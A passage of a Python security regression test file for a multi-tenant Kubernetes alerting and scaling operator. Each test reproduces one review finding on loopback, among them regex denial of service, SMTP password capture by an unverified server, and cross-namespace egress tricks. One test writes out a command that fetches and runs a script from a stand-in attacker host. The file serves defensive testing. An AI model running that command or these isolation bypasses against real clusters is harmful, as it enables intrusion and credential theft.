"""Findings of a second security review (issue 21 follow-up), one failing test each.

Each test is marked xfail(strict=True): it fails on the code as reviewed, so the suite stays
green, and the fix flips it (an unexpected pass fails the run: then drop the mark). Every test
drives the project's real code; traffic goes to loopback only.
"""

from __future__ import annotations

import asyncio
import base64
import copy
import datetime
import os
import shutil
import socket
import ssl
import subprocess
import threading
import time
import typing
import urllib.error
import urllib.request

import pytest
from aiohttp import web

from controller.adapters import http_check
from controller.adapters import notifiers
from controller.adapters import notify
from controller.adapters import notify_email
from controller.adapters import shares
from controller.api import alertpolicy
from controller.api import monitoredservice
from controller.core import alerting
from controller.operator import alerter as alerter_module
from controller.operator import loop
from controller.operator import snapshots as snapshots_module
from controller.operator import view as view_module
from tests.unit import loopback

GROUP = "ops.capliquify.io/v1alpha1"
NOW = datetime.datetime(2026, 6, 1, 12, 0, 0, tzinfo=datetime.timezone.utc)


# -- 1. One AlertPolicy's regular expressions stall the event loop (and unseat the leader) ---------

def _policy_with_matchers(patterns: list[str]) -> dict[str, typing.Any]:
    return {"selector": {"matchLabels": {"team": "t"}},
            "rules": [{"name": "HighCPU", "metric": "cpu", "op": ">", "threshold": 80, "severity": "critical"}],
            "channels": [{"name": "hook", "webhook": {"url": "http://127.0.0.1:1/"}}],
            "routes": [{"name": f"r{i}", "channels": ["hook"],
                        "matchers": [f'team=~"{pattern}"' for pattern in patterns[i * 8:(i + 1) * 8]]}
                       for i in range((len(patterns) + 7) // 8)]}


def test_a_tenants_regex_matchers_cost_little_cpu_to_validate() -> None:
    patterns = [rf"\\pL{{400}}x{index}" for index in range(16)]  # distinct: no cache helps
    started = time.process_time()
    try:
        alertpolicy.AlertPolicySpec.model_validate(_policy_with_matchers(patterns))
    except Exception:  # noqa: BLE001 -- refusing such a pattern (fast) is a fix too
        pass
    spent = time.process_time() - started
    assert spent < 0.5, f"validating 16 regex matchers took {spent:.1f} s of CPU on the event loop"


# -- 2. The alerting round never yields: one tenant's objects stop every loop (and the Lease) -----

class _QuietApi:
    """The API server's side: nothing in these rounds needs an answer."""

    def patch_status(self, kind: str, namespace: str, name: str, patch: dict[str, typing.Any]) -> dict[str, typing.Any]:
        raise AssertionError("no status write expected")

    def create_event(self, *args: typing.Any) -> None:
        return None


def _custom(kind: str, name: str, spec: dict[str, typing.Any], labels: dict[str, str] | None = None) -> dict[str, typing.Any]:
    return {"apiVersion": GROUP, "kind": kind, "metadata": {
        "name": name, "namespace": "tenant-a", "uid": f"uid-{kind}-{name}", "generation": 1, "resourceVersion": "1",
        "labels": labels or {}}, "spec": spec}


SERVICE = {"target": {"kubernetes": {"kind": "Deployment", "name": "web"}},
           "metrics": {"prometheus": {"url": "http://127.0.0.1:1"}}}
PAGE = {"selector": {"matchLabels": {"team": "t"}},
        "rules": [{"name": f"{name}{index}", "metric": metric, "op": ">", "threshold": 80, "severity": "warning"}
                  for index in range(16)
                  for name, metric in (("HighCPU", "cpu"), ("Errors", "errorRate"), ("Slow", "latencyP95"),
                                       ("Down", "health"))],
        "channels": [{"name": "hook", "webhook": {"url": "http://127.0.0.1:1/"}}],
        "routes": [{"name": "all", "channels": ["hook"], "repeatIntervalSeconds": 300}]}


def alerting_parts(view: typing.Any, api: typing.Any, **options: typing.Any) -> tuple[typing.Any, typing.Any, typing.Any]:
    """(alerter, snapshots, poster) over `view` with no
    metric source, a fixed clock and `api` for every write; `options` go to the Alerter."""
    evaluator = loop.Evaluator(view, api, 60.0, 8, clock=lambda: NOW)

    async def no_metrics(*_: typing.Any, **__: typing.Any) -> dict:
        return {}

    snapshots = snapshots_module.Snapshots(view, evaluator, no_metrics, 30.0, clock=lambda: NOW)
    poster = notify.HttpPoster(True)
    alerter = alerter_module.Alerter(view, evaluator, api, snapshots, notifiers.registry(poster), 5.0,
                                     clock=lambda: NOW, **options)
    return alerter, snapshots, poster


def test_an_alerting_round_never_holds_the_event_loop_for_long() -> None:
    async def scenario() -> float:
        view = view_module.View()
        alerter, _, poster = alerting_parts(view, _QuietApi())
        for index in range(40):
            view.upsert(_custom("MonitoredService", f"s{index}", copy.deepcopy(SERVICE), {"team": "t"}))
            view.upsert(_custom("AlertPolicy", f"p{index}", copy.deepcopy(PAGE)))
        longest = 0.0

        async def ticker() -> None:
            nonlocal longest
            while True:
                before = time.monotonic()
                await asyncio.sleep(0.01)
                longest = max(longest, time.monotonic() - before - 0.01)

        tick = asyncio.create_task(ticker())
        await asyncio.sleep(0.05)
        await alerter.round()
        await asyncio.sleep(0.05)
        tick.cancel()
        await poster.close()
        return longest

    stall = asyncio.run(scenario())
    assert stall < 0.5, f"one alerting round held the event loop for {stall:.1f} s"


# -- 3. One tenant's slow DNS fails every other tenant's checks -----------------------------------

def test_one_tenants_slow_dns_does_not_fail_another_tenants_check(monkeypatch: pytest.MonkeyPatch) -> None:
    release = threading.Event()
    real = socket.getaddrinfo

    def getaddrinfo(host: typing.Any, *args: typing.Any, **kwargs: typing.Any) -> typing.Any:
        if isinstance(host, str) and host.endswith(".slow.tenant-a.test"):
            release.wait(20)  # tenant A's authoritative DNS never answers: the resolver's own timeouts
            raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    threads = min(32, (os.cpu_count() or 1) + 4)  # asyncio's default executor

    async def scenario() -> typing.Any:
        app = web.Application()
        async def healthy(_: web.Request) -> web.Response:
            return web.Response(text="ok")

        app.router.add_get("/healthz", healthy)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        checker = http_check.HttpChecker(True)

        async def probe(namespace: str, url: str, timeout: int) -> typing.Any:
            check = monitoredservice.HttpCheck.model_validate({"url": url, "timeoutSeconds": timeout, "bodyContains": "ok"})
            with shares.tenant(namespace):
                return await checker.probe(check)

        try:
            hostile = [asyncio.create_task(probe("tenant-a", f"http://h{i}.slow.tenant-a.test/", 1))
                       for i in range(threads + 2)]  # within A's 32 places when threads <= 30
            await asyncio.sleep(0.3)
            result = await probe("tenant-b", f"http://localhost:{port}/healthz", 3)
            await asyncio.gather(*hostile, return_exceptions=True)
            return result
        finally:
            release.set()
            await checker.close()
            await runner.cleanup()

    try:
        result = asyncio.run(scenario())
    finally:
        release.set()
    assert result.ok, f"tenant B's check failed while tenant A's names resolved: {result.message}"


# -- 4. SMTP STARTTLS does not verify the server: the Secret's password goes to anyone ------------

def _smtp_server(listener: socket.socket, cert: str, key: str, got: dict[str, typing.Any]) -> None:
    listener.settimeout(10)
    try:
        conn, _ = listener.accept()
    except OSError:
        return
    conn.settimeout(10)
    stream = conn.makefile("rwb")
    tls = False

    def say(line: str) -> None:
        stream.write(line.encode() + b"\r\n")
        stream.flush()

    try:
        say("220 mx ESMTP")
        while True:
            line = stream.readline().decode(errors="replace").strip()
            if not line:
                break
            command = line.split()[0].upper()
            if command in ("EHLO", "HELO"):
                say("250-mx")
                say("250 AUTH PLAIN LOGIN" if tls else "250 STARTTLS")
            elif command == "STARTTLS":
                say("220 go ahead")
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                context.load_cert_chain(cert, key)
                conn = context.wrap_socket(conn, server_side=True)
                stream, tls = conn.makefile("rwb"), True
            elif command == "AUTH":
                got["auth"] = base64.b64decode(line.split()[2]).split(b"\0")
                say("235 accepted")
            elif command == "DATA":
                say("354 go ahead")
                while stream.readline() not in (b".\r\n", b""):
                    pass
                say("250 queued")
            elif command == "QUIT":
                say("221 bye")
                break
            else:
                say("250 ok")
    except (OSError, ssl.SSLError):
        pass
    finally:
        conn.close()


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command for a throwaway certificate")
def test_starttls_refuses_a_server_whose_certificate_does_not_verify(tmp_path: typing.Any) -> None:
    cert, key = str(tmp_path / "cert.pem"), str(tmp_path / "key.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert,
                    "-days", "1", "-subj", "/CN=attacker.invalid"], check=True, capture_output=True, timeout=60)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    got: dict[str, typing.Any] = {}
    server = threading.Thread(target=_smtp_server, args=(listener, cert, key, got), daemon=True)
    server.start()
    settings = notify_email._settings(
        f"host: localhost\nport: {listener.getsockname()[1]}\nfrom: ops@example.com\n"
        "username: alerts@example.com\npassword: s3cret-smtp-password\nstarttls: true\n")
    n = alerting.Notification("k1", "mail", "firing", "HighCPU", "web", "critical", "web CPU 95%", NOW)
    mail = notify_email.build_message("ops@example.com", ["oncall@example.com"],
                                      notify.Message(n, "tenant-b", "page", NOW, datetime.timedelta(minutes=5)))
    try:
        notify_email.EmailNotifier(True)._deliver(settings, mail)
    except notify.DeliveryError:
        pass  # refused: what a verifying client does
    finally:
        server.join(15)
        listener.close()
    assert "auth" not in got, f"the password went to an unverified server: {got['auth'][2]!r}"


# -- 5. The view keeps every annotation of every tenant's object: one namespace can OOM the pod ----

def test_the_view_keeps_only_what_the_operator_reads_of_a_tenants_object() -> None:
    import json
    import tracemalloc

    annotations = {f"a.example.com/k{index:05d}": "v" * 40 for index in range(4000)}
    obj = _custom("MonitoredService", "web", copy.deepcopy(SERVICE))
    obj["metadata"]["annotations"] = annotations
    text = json.dumps(obj)
    view = view_module.View()
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for index in range(4):
            obj = json.loads(text)  # as the watch hands it over
            obj["metadata"].update(name=f"web{index}", uid=f"uid-{index}")
            view.upsert(obj)
            del obj
        retained = (tracemalloc.get_traced_memory()[0] - before) / 4
    finally:
        tracemalloc.stop()
    assert retained < 64 * 1024, f"the view retains {retained / 1024:.0f} KiB per object of a tenant's annotations"


# -- 6. A scale's status.selector freezes the whole process (quadratic regex, GIL held) -----------

def test_a_scale_selector_is_parsed_in_linear_time() -> None:
    from controller.core import platform_scale

    started = time.process_time()
    platform_scale.parse_selector("a" + " " * 20000 + "!")
    spent = time.process_time() - started
    assert spent < 0.2, f"parsing a 20 KB status.selector took {spent:.1f} s of CPU with the GIL held"


# -- 7. One AlertPolicy over many services still holds the loop (the yield is per policy) ---------

def test_one_alert_policy_over_many_services_never_holds_the_event_loop_for_long() -> None:
    async def scenario() -> float:
        view = view_module.View()
        alerter, _, poster = alerting_parts(view, _QuietApi())
        for index in range(1500):
            view.upsert(_custom("MonitoredService", f"s{index}", copy.deepcopy(SERVICE), {"team": "t"}))
        view.upsert(_custom("AlertPolicy", "page", copy.deepcopy(PAGE)))
        longest = 0.0

        async def ticker() -> None:
            nonlocal longest
            while True:
                before = time.monotonic()
                await asyncio.sleep(0.01)
                longest = max(longest, time.monotonic() - before - 0.01)

        tick = asyncio.create_task(ticker())
        await asyncio.sleep(0.05)
        await alerter.round()
        await asyncio.sleep(0.05)
        tick.cancel()
        await poster.close()
        return longest

    stall = asyncio.run(scenario())
    assert stall < 0.5, f"one AlertPolicy's evaluation held the event loop for {stall:.1f} s"


# -- 8. A tenant's own PromQL runs against the operator's Prometheus: another tenant's metrics ----

def test_a_tenants_own_query_cannot_read_another_namespace_through_the_operators_prometheus() -> None:
    from controller.adapters import egress
    from controller.adapters import metric_source
    from controller.adapters import source_prometheus
    from controller.core import targets

    received: list[tuple[str, dict[str, str], dict[str, str]]] = []

    async def prometheus(request: web.Request) -> web.Response:
        form = {key: str(value) for key, value in (await request.post()).items()}
        received.append((form.get("query", ""), {k: v for k, v in form.items() if k not in ("query", "time", "timeout")}
                         | dict(request.query), dict(request.headers)))
        return web.json_response({"status": "success", "data": {"resultType": "vector", "result": [
            {"metric": {}, "value": [1700000000, "42"]}]}})

    spec = monitoredservice.MonitoredServiceSpec.model_validate({
        "target": {"kubernetes": {"kind": "Deployment", "name": "web"}},
        "metrics": {"custom": [{"name": "peek", "query": 'sum(rate(http_requests_total{namespace="tenant-b"}[5m]))'}]}})

    async def scenario() -> typing.Any:
        app = web.Application()
        app.router.add_post("/api/v1/query", prometheus)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        client = egress.GuardedClient(True, limit=8)

        async def no_secret(*_: str) -> None:
            return None

        try:
            target = targets.of_service("tenant-a", spec, f"http://127.0.0.1:{port}")  # the operator's Prometheus
            source = source_prometheus.BatchedPrometheus(client, no_secret, "2m", lambda _: None)
            owner = ("MonitoredService", "tenant-a", "web")
            samples = await source.read([metric_source.Request(owner, ("custom", "peek"), target)])
            return samples[owner][("custom", "peek")]
        finally:
            await client.close()
            await runner.cleanup()

    sample = asyncio.run(scenario())
    scoped = [query for query, extra, headers in received
              if "tenant-a" in " ".join(extra.values()) or "tenant-a" in " ".join(headers.values())]
    unscoped_b = [query for query, _, _ in received if "tenant-b" in query and query not in scoped]
    assert sample.value is None or not unscoped_b, (
        f"tenant-a read {sample.value} from tenant-b's series through the operator's Prometheus: {unscoped_b}")


# -- 9. A namespace's pod list is read whole: no answer cap for the metrics API ------------------

def test_a_metrics_api_read_never_holds_a_namespaces_fat_pod_list() -> None:
    import functools
    import json
    import tracemalloc
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    import kubernetes

    from controller.adapters import metric_source
    from controller.adapters import source_metrics_api
    from controller.core import selectors
    from controller.core import targets
    from controller.operator import pools

    annotations = {f"a.example.com/k{index:05d}": "v" * 40 for index in range(4000)}  # 252 KB
    pods = json.dumps({"kind": "PodList", "apiVersion": "v1", "metadata": {}, "items": [
        {"metadata": {"name": f"web-{index}", "namespace": "tenant-a", "labels": {"app": "web"},
                      "annotations": annotations},
         "spec": {"containers": [{"name": "c", "resources": {"requests": {"cpu": "10m"}}}]},
         "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}}
        for index in range(20)]}).encode()  # 5 MB
    usage = json.dumps({"kind": "PodMetricsList", "apiVersion": "metrics.k8s.io/v1beta1", "metadata": {},
                        "items": []}).encode()

    class Api(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:  # noqa: N802 -- http.server's name
            body = usage if "metrics.k8s.io" in self.path else pods
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: typing.Any) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), Api)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    client = kubernetes.client.ApiClient(kubernetes.client.Configuration(host=f"http://127.0.0.1:{server.server_address[1]}"))
    source = source_metrics_api.MetricsApiSource(client, functools.partial(pools.run, pools.KUBE))
    target = targets.Target(namespace="tenant-a", kind="Deployment", name="web")
    fields: dict[str, typing.Any] = {}
    if "selector" in getattr(metric_source.Request, "__dataclass_fields__", {}):
        fields["selector"] = selectors.parse({"matchLabels": {"app": "web"}})
    request = metric_source.Request(("ScalingPolicy", "tenant-a", "web"), ("cpu", None), target, **fields)
    tracemalloc.start()
    try:
        asyncio.run(source.read([request]))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        server.shutdown()
        client.close()
    assert peak < 8 * 1024 * 1024, f"one metrics-API read of a 5 MB pod list peaked at {peak / 1024 / 1024:.0f} MiB"


# -- 10. One namespace's hanging Prometheus holds every range-query place (seasonal history) ------
# source_history.RangeHistory ran at most IN_FLIGHT (2) range queries at once for all tenants
# together, handed out first come first served: two policies of one namespace whose Prometheus
# accepts and never answers held both places for the 10 s deadline, and the next two, and so
# on; every other namespace's history waited behind them (its forecast stays WarmingUp).

def test_one_namespaces_hanging_range_queries_do_not_hold_another_namespaces_history() -> None:
    import json

    from controller.adapters import egress
    from controller.adapters import source_history
    from controller.core import targets

    async def no_secret(namespace: str, name: str, key: str) -> str | None:
        return None

    async def scenario() -> tuple[bool, int]:
        release, served = asyncio.Event(), asyncio.Event()
        hanging = 0

        async def hang(_: web.Request) -> web.Response:
            nonlocal hanging
            hanging += 1
            await release.wait()
            return web.Response(body=b"late")

        async def answer(request: web.Request) -> web.Response:
            form = await request.post()
            served.set()
            end = float(typing.cast(str, form["end"]))
            return web.Response(body=json.dumps({"status": "success", "data": {"resultType": "matrix", "result": [
                {"metric": {}, "values": [[end, "5"]]}]}}).encode())

        runners, urls = [], []
        for handler in (hang, answer):
            app = web.Application()
            app.router.add_post("/api/v1/query_range", handler)
            runner = web.AppRunner(app)
            await runner.setup()
            site = web.TCPSite(runner, "127.0.0.1", 0)
            await site.start()
            runners.append(runner)
            urls.append(f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}")  # type: ignore[union-attr]
        client = egress.GuardedClient(allow_loopback=True, limit=8)
        reader = source_history.RangeHistory(client, no_secret, "2m")
        requests = [source_history.HistoryRequest(
            ("ScalingPolicy", "tenant-a", f"p{index}"), ("cpu", None),
            targets.Target("tenant-a", "Deployment", f"w{index}", prometheus_url=urls[0]), 86400.0, 4 * 86400.0, 300)
            for index in range(4)]
        requests.append(source_history.HistoryRequest(
            ("ScalingPolicy", "tenant-b", "web"), ("cpu", None),
            targets.Target("tenant-b", "Deployment", "web", prometheus_url=urls[1]), 86400.0, 4 * 86400.0, 300))
        reading = asyncio.ensure_future(reader.read(requests))
        try:
            # tenant-b's query must go out while tenant-a's hang (they end only at the 10 s deadline).
            await asyncio.wait_for(served.wait(), 5)
            reached = True
        except asyncio.TimeoutError:
            reached = False
        release.set()
        await reading
        await client.close()
        for runner in runners:
            await runner.cleanup()
        return reached, hanging

    reached, hanging = asyncio.run(scenario())
    assert reached, f"tenant-b's range query waited behind tenant-a's {hanging} hanging ones"


# -- 11. Egress's namespace rule took `<name>.<namespace>` for a Service of the namespace ---------
# core/egress.ClusterNetworks accepted `<a>.<ns>` and `<a>.<b>.<ns>` as names of namespace ns.
# Kubernetes resolves such a name through the search path first, but when no Service matches it
# falls through to public DNS: a namespace named like a public top-level domain (`shop`, the
# examples' own, `dev`, `app`, `io`) names `pay-me.shop`, registered by its author with an A
# record of another namespace's Service address, and reaches that Service from the operator.

def test_a_public_name_under_a_namespace_named_like_a_tld_reaches_no_other_namespace() -> None:


    from controller.adapters import egress

    # What the cluster's resolver answers: bank's Service by its own name, and the public record
    # the author of `pay-me.shop` set (the same address).
    public_dns = loopback.Names({"db.bank.svc": "127.0.0.1", "pay-me.shop": "127.0.0.1"})

    async def scenario() -> dict[str, str]:
        outcomes = {}
        async with loopback.text_site("bank's data") as port:
            for namespace, host in (("shop", "db.bank.svc"), ("shop", "pay-me.shop")):
                client = egress.GuardedClient(True, 8, resolver=public_dns)  # a fresh pool: no connection reused
                with shares.tenant(namespace):
                    try:
                        outcomes[host] = (await client.request("GET", f"http://{host}:{port}/", deadline=5,
                                                               body_limit=100)).body.decode()
                    except (egress.EgressRefused, Exception) as error:  # noqa: BLE001 -- any refusal is the outcome
                        outcomes[host] = egress.refusal_of(error) or str(error)
                await client.close()
        return outcomes

    with loopback.cluster():
        outcomes = asyncio.run(scenario())
    assert "cluster's networks" in outcomes["db.bank.svc"], outcomes
    assert "cluster's networks" in outcomes["pay-me.shop"], outcomes


# -- 12. A kept-alive connection outlives the name's owner mark: another namespace rides it -------
# adapters/egress.pooled_refusal refuses a namespace a pooled connection another namespace's own
# name opened (the pool reuses it with no lookup and no dial). The mark (`_NAMED`) is set when
# the name resolves and expires PERMIT_SECONDS (300 s) later; a check every 10 s keeps its
# connection alive and never resolves again, so after 300 s the mark was gone, the connection
# still pooled, and any namespace asking for that name was handed it.

def test_a_connection_kept_alive_past_the_names_mark_is_not_handed_to_another_namespace(
        monkeypatch: pytest.MonkeyPatch) -> None:
    import types


    from controller.adapters import egress

    later = [0.0]  # seconds added to the egress module's clock (the event loop's is real: the pool keeps the connection)
    monkeypatch.setattr(egress, "time", types.SimpleNamespace(monotonic=lambda: time.monotonic() + later[0]))

    async def scenario() -> str:
        client = egress.GuardedClient(True, 8, resolver=loopback.Names({"db.bank.svc": "127.0.0.1"}))
        async with loopback.text_site("bank's data") as port:
            url = f"http://db.bank.svc:{port}/"
            try:
                for _ in range(32):  # bank's own check, every 10 s for 320 s, on its kept-alive connection
                    with shares.tenant("bank"):
                        assert (await client.request("GET", url, deadline=5, body_limit=100)).body == b"bank's data"
                    later[0] += 10
                with shares.tenant("shop"):
                    try:
                        return (await client.request("GET", url, deadline=5, body_limit=100)).body.decode()
                    except egress.EgressRefused as refused:
                        return str(refused)
            finally:
                await client.close()

    with loopback.cluster(objects=[loopback.service("bank", "db", clusterIP="None", selector={"app": "db"}),
                                   loopback.endpoint_slice("bank", "db", "127.0.0.1"), loopback.pod("bank", "db-0", "127.0.0.1")]):
        outcome = asyncio.run(scenario())
    assert "cluster's networks" in outcome, f"shop rode bank's kept-alive connection and read {outcome!r}"


# -- 13. One namespace's slow policies keep every other namespace's history from being asked ------
# operator/seasonal.SeasonalHistories asks the first PER_REFRESH (50) due policies in the view's
# order and starts no round before the last one ends. A namespace with 100 policies at
# refreshSeconds 300 whose Prometheus answers at its deadline fills every round: a round of 50 of
# its queries lasts longer than 300 s (one at a time: its share), so its first 50 are due again
# when the round after next starts, and a policy of another namespace after them is never asked.
# Fixed: a round takes one due policy of each namespace in turn.

def test_a_namespaces_slow_history_reads_never_keep_another_namespaces_from_being_asked() -> None:
    from controller.adapters import source_history
    from controller.api import scalingpolicy
    from controller.core import queries
    from controller.core import targets
    from controller.operator import seasonal as seasonal_module

    clock = [0.0]
    asked: list[typing.Hashable] = []

    class SlowForOneNamespace:
        """tenant-a's Prometheus answers each range query at the 10 s deadline, one at a time."""

        async def read(self, requests: typing.Sequence[source_history.HistoryRequest]
                       ) -> dict[typing.Hashable, queries.RangeResult]:
            asked.extend(r.owner for r in requests)
            clock[0] += 10.0 * sum(1 for r in requests if r.target.namespace == "tenant-a")
            return {r.owner: queries.RangeResult(error="did not answer within 10s") if r.target.namespace == "tenant-a"
                    else queries.RangeResult(points=((r.end, 5.0),)) for r in requests}

    def policy(refresh: int) -> scalingpolicy.ScalingPolicySpec:
        return scalingpolicy.ScalingPolicySpec.model_validate({
            "targetRef": {"monitoredService": "web"}, "metrics": [{"type": "cpu", "scaleUp": 70, "scaleDown": 30}],
            "predictive": {"seasonal": {"enabled": True, "refreshSeconds": refresh}}})

    specs: dict[typing.Any, scalingpolicy.ScalingPolicySpec] = {}
    resolved: dict[typing.Any, targets.Target] = {}
    for index in range(100):
        key = ("ScalingPolicy", "tenant-a", f"p{index}")
        specs[key] = policy(300)
        resolved[key] = targets.Target("tenant-a", "Deployment", f"w{index}", prometheus_url="http://prom.tenant-a:9090")
    other = ("ScalingPolicy", "tenant-b", "web")
    specs[other] = policy(3600)
    resolved[other] = targets.Target("tenant-b", "Deployment", "web", prometheus_url="http://prom.tenant-b:9090")
    histories = seasonal_module.SeasonalHistories(view_module.View(), SlowForOneNamespace(),  # type: ignore[arg-type]
                                                  clock=lambda: 1_000_000.0 + clock[0], monotonic=lambda: clock[0])

    async def rounds() -> None:
        for _ in range(20):  # 20 rounds: hours of the operator's time
            histories.refresh(specs, resolved)
            if histories.task is not None:
                await histories.task
            clock[0] += 5.0

    asyncio.run(rounds())
    assert other in asked, f"tenant-b's history was never asked in {clock[0] / 3600:.1f} h ({len(asked)} queries of tenant-a)"


# -- 14. A Service of one's own namespace may name another namespace's (ExternalName) -------------
# ClusterNetworks judged the name asked for: `<service>.<namespace>.svc`. Whoever may create
# Services in a namespace (the `edit` role) makes `alias` of type ExternalName with externalName
# `db.bank.svc.cluster.local`; the cluster's DNS answers `alias.shop.svc` with a CNAME to it and
# bank's Service address, and the operator dialled it for shop (a headless Service with
# EndpointSlices written by hand does the same with any address). Fixed: a name of the tenant's
# own namespace is answered from the API, never by DNS (core/service_names.py); an ExternalName
# is judged as the name it points to (tests/unit/test_egress_services.py has the rest).

def test_an_externalname_service_of_ones_own_namespace_reaches_no_other_namespace() -> None:
    from controller.adapters import egress

    # The cluster's DNS: `alias.shop.svc` is a CNAME to `db.bank.svc.cluster.local`, whose address
    # (bank's Service) it answers.
    cluster_dns = loopback.Names({"alias.shop.svc": "127.0.0.1", "db.bank.svc.cluster.local": "127.0.0.1"})

    async def scenario() -> str:
        client = egress.GuardedClient(True, 8, resolver=cluster_dns)
        async with loopback.text_site("bank's data") as port:
            try:
                with shares.tenant("shop"):
                    try:
                        return (await client.request("GET", f"http://alias.shop.svc:{port}/", deadline=5,
                                                     body_limit=100)).body.decode()
                    except egress.EgressRefused as refused:
                        return str(refused)
            finally:
                await client.close()

    # The API: shop's `alias` is an ExternalName Service for bank's `db`.
    with loopback.cluster(objects=[loopback.service("shop", "alias", type="ExternalName",
                                                    externalName="db.bank.svc.cluster.local")]):
        outcome = asyncio.run(scenario())
    assert outcome != "bank's data", "shop reached bank's Service through an ExternalName Service of its own"
    assert "ExternalName Service for db.bank.svc.cluster.local" in outcome and "not a Service of namespace shop" in outcome
    assert "alias.shop.svc" not in cluster_dns.asked  # a name of shop's own is never asked of DNS


# -- 15. A MonitoredService borrows another's Railway token by naming the same Railway service ----
# operator/railway.py groups the MonitoredServices of a namespace by Railway service (environment
# and service ids) and keeps the first one's binding: its endpoint and its token Secret. Admission
# checks a MonitoredService's author against the Secret *it* names. So a namespace user who may
# write MonitoredServices but not read the Railway token names the same service with a Secret of
# their own (any value) and a preDeployCommand: the watcher sends that command to Railway with the
# first service's token (a command run at every deploy, with the service's variables). The same
# binding scales and rolls back through the second service.

def test_a_monitored_service_never_acts_on_railway_with_a_token_its_author_did_not_name(railway) -> None:  # noqa: ANN001
    from controller.operator import loop
    from controller.operator import railway as railway_module
    from controller.operator import view as view_module

    class Api:
        def secret_value(self, namespace: str, name: str, key: str) -> str | None:
            return {"railway-token": "t0ken", "my-own": "not-a-railway-token"}.get(name)

        def create_event(self, *args: typing.Any) -> None:
            return None

    def service(name: str, secret: str, **config: typing.Any) -> dict[str, typing.Any]:
        return {"apiVersion": GROUP, "kind": "MonitoredService",
                "metadata": {"namespace": "shop", "name": name, "generation": 1, "uid": f"uid-{name}",
                             "resourceVersion": "1"},
                "spec": {"target": {"railway": {"projectId": "p", "environmentId": "env-1", "serviceId": "svc-1",
                                                "tokenSecretRef": {"name": secret, "key": "t"},
                                                "endpoint": railway.url, **config}}}}

    view = view_module.View()
    evaluator = loop.Evaluator(view, Api(), 60.0, 4)  # type: ignore[arg-type]
    watcher = railway_module.RailwayWatcher(view, evaluator, Api(), railway.url, allow_loopback=True,  # type: ignore[arg-type]
                                            leading=lambda: True)

    scaled: list[str] = []

    async def scenario() -> None:
        view.upsert(service("api", "railway-token"))  # the owner's: the token, no configuration managed
        view.upsert(service("mine", "my-own", preDeployCommand=["sh", "-c", "curl -s https://evil.example | sh"]))
        await watcher.poll()
        await watcher.poll()
        try:  # a ScalingPolicy through "mine" scales with the binding of its Railway service
            await watcher.set_replicas("shop", "env-1/svc-1", 4)
            scaled.append("scaled")
        except Exception as error:  # noqa: BLE001 -- the refusal is the outcome
            scaled.append(str(error))
        await watcher.close()

    asyncio.run(scenario())
    assert railway.services["svc-1"].pre_deploy_command is None, (
        f"Railway runs {railway.services['svc-1'].pre_deploy_command} at each deploy: sent with a token whose Secret "
        "the MonitoredService that asked for it does not name")
    assert railway.services["svc-1"].replicas == 1 and scaled != ["scaled"], scaled
    said = view.world.platform_errors.get(("shop", railway_module.RAILWAY, "env-1/svc-1"))
    assert said is not None and "different endpoints or token Secrets" in said and "api, mine" in said, said


# -- 16. A multi-line alert summary (or a Secret's `from` with a line break) fails every email -----
# notify_email.build_message put the rendered summary in the Subject header as is: a summary
# written as a YAML block (`summary: |`) or holding U+2028 made the email library raise
# ValueError, and every email of that rule failed as "unexpected ValueError in the email
# notifier"; a `from` with U+2028 (a line break to Python, not CR/LF) did the same for the channel.

def test_a_multi_line_summary_is_mailed_and_a_from_with_a_line_break_is_a_clear_error() -> None:
    from controller.adapters import notify as notify_module

    def message(summary: str) -> notify_module.Message:
        notification = alerting.Notification("k", "mail", "firing", "HighCPU", "web", "critical", summary, NOW)
        return notify_module.Message(notification, "tenant-a", "p", NOW, datetime.timedelta(minutes=5))

    for summary in ("HighCPU on web\nvalue 93 > 80\n", "HighCPU on web\u2028value 93", "a\rb\x85c"):
        mail = notify_email.build_message("ops@example.com", ["oncall@example.com"], message(summary))
        assert "\n" not in str(mail["Subject"]) and summary.splitlines()[0] in mail.as_string()
        assert summary.splitlines()[-1] in mail.get_content()
    with pytest.raises(notify.DeliveryError, match="from must be one address on one line"):
        notify_email._settings("host: smtp.example.com\nfrom: \"ops@example.com\\u2028Bcc: x@example.com\"\n")


# -- 17. The health port holds every silent connection: any pod can take the operator's files -----
# /healthz (and the readiness probe) is kopf's liveness endpoint (cli.py: liveness_endpoint), an
# aiohttp server on the operator's event loop with no bound on connections: one that never sends
# a byte is held 75 s (aiohttp's keep-alive), and a client reconnecting keeps as many as it likes.
# No NetworkPolicy fences the port. Measured in a process with the soft limit a container often
# has (1,024 files): 1,100 silent connections from one client, and /healthz timed out, the process
# could open no socket (no API server, no Lease renewal, no tenant's request: EMFILE) and its
# accept loop logged EMFILE, for as long as the client held them. /metrics is bounded (8).

def test_silent_connections_to_the_health_port_are_bounded_like_metrics() -> None:
    """Fixed: /healthz is the operator's own bounded server (operator/metrics.serve_health, as
    cli.py starts it), not kopf's endpoint."""
    from controller.operator import metrics as metrics_module

    server = metrics_module.serve_health(0, lambda: "standby", address="127.0.0.1")
    port = server.server_address[1]
    silent = []
    try:
        for _ in range(200):
            silent.append(socket.create_connection(("127.0.0.1", port)))
        time.sleep(2)
        held = 0
